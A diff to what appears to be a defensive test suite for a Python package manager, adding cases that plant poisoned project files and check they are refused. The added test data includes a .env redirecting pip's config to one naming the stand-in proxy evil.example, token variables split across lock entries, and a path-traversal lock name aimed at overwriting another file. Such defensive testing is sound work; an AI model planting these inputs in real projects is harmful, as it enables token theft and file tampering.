@@ -209,6 +209,7 @@ STRAYS: dict[str, Callable[[Poisoned], None]] = {
     "a named pylock": _file(
         "pylock.dev.toml", f'[[packages]]\nname = "x"\narchive = {{url = "{STRAY}"}}\n'
     ),
+    "braces in braces": _pipfile(f'x = "@ {STRAY.replace("${", "${A${")}"'),
     ".env": _file(".env", f"PIP_EXTRA_INDEX_URL={STRAY}\n"),
     ".env with a default": _file(".env", f"A=${{{TOKEN_VARIABLE}:-x}}\n"),
 }
@@ -219,6 +220,17 @@ def test_stray_variable(place: str, poisoned: Poisoned) -> None:
     """A token's variable anywhere that pipenv or pip expands it is refused, file and place told."""
     STRAYS[place](poisoned)
     poisoned.refused("sync", parts=(TOKEN_VARIABLE,))
+
+
+def test_stray_variable_in_pieces(poisoned: Poisoned) -> None:
+    """A variable that pipenv would put together on a line for pip is refused."""
+    begin, end = STRAY[:-30], STRAY[-30:]
+    poisoned.lock(default={f"x @ {begin}": {"version": end}})
+    poisoned.refused("sync", parts=("half of a variable",))
+    poisoned.lock()
+    poisoned.write(source(poisoned.world.endpoint), f'[packages]\n"x @ {begin}" = "{end}"\n')
+    for words in (("sync",), ("lock",), ("--ca-route", "loopback", "lock")):
+        poisoned.refused(*words, parts=("half of a variable",))
 
 
 @pytest.mark.parametrize("route", ["", "loopback", "as-written"])
@@ -261,7 +273,7 @@ def test_variable_of_ones_own(name: str, poisoned: Poisoned) -> None:
 
 CONNECTIONS = (
     *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
-    *("PIP_TRUSTED_HOST", "PIP_CONFIG_FILE", "PIP_REQUIREMENT", "PIP_CONSTRAINT", "PIP_PYTHON"),
+    *("PIP_TRUSTED_HOST", "PIP_REQUIREMENT", "PIP_CONSTRAINT", "PIP_PYTHON"),
     *("SSLKEYLOGFILE", "PIP_KEYRING_PROVIDER", "PIP_CLIENT_CERT"),
 )
 
@@ -275,6 +287,28 @@ def test_dotenv_that_says_whom_to_trust(name: str, poisoned: Poisoned, evil: Evi
     poisoned.refused(*words, parts=(name,))
     poisoned.gets_no_token("sync")
     assert evil.heads == []
+
+
+@pytest.mark.parametrize(
+    ("name", "place"),
+    [
+        ("HOME", "home"),
+        ("XDG_CONFIG_HOME", "home/.config"),
+        ("PIP_CONFIG_FILE", "home/.config/pip/pip.conf"),
+    ],
+)
+def test_dotenv_that_says_where_settings_are(name: str, place: str, poisoned: Poisoned) -> None:
+    """A .env that leads pip to a pip.conf of the project's, and so to its proxy, is refused."""
+    config = poisoned.folder / "home" / ".config" / "pip" / "pip.conf"
+    config.parent.mkdir(parents=True)
+    config.write_text("[global]\nproxy = http://evil.example:3128\ncert = ./ca.pem\n")
+    poisoned.file(".env", f"{name}={poisoned.folder / place}\n")
+    words = ("run", "pip", "install", "orb-common")
+    poisoned.refused(*words, parts=(name,))
+    poisoned.refused(*words, "-i", poisoned.world.endpoint.simple_url, parts=(name,))
+    poisoned.refused("sync", parts=(name,))
+    poisoned.file(".env", f"HOME={poisoned.env['HOME']}\n")
+    assert poisoned("sync").status == 0
 
 
 def test_dotenv_with_a_route_of_the_users(poisoned: Poisoned) -> None:
@@ -480,6 +514,21 @@ def test_lock_that_is_no_file(kind: str, poisoned: Poisoned) -> None:
     else:
         os.mkfifo(path)
     poisoned.refused("sync", parts=("is no file",))
+
+
+def test_pylock_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
+    """A lock's name by which pipenv would write over another TOML file is refused."""
+    victim = tmp_path / "config.toml"
+    victim.write_text("precious = 1\n")
+    (poisoned.folder / "pylock.").mkdir()
+    name = f"/../{os.path.relpath(victim, poisoned.folder)}".removesuffix(".toml")
+    poisoned.write(
+        source(poisoned.world.endpoint),
+        f'[pipenv]\nuse_pylock = true\npylock_name = "{name}"\n{PRIVATE}',
+    )
+    for words in (("lock",), ("--ca-route", "loopback", "lock"), ("install", "orb-common")):
+        poisoned.refused(*words, parts=("pylock_name",))
+    assert victim.read_text() == "precious = 1\n"
 
 
 def test_pipfile_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
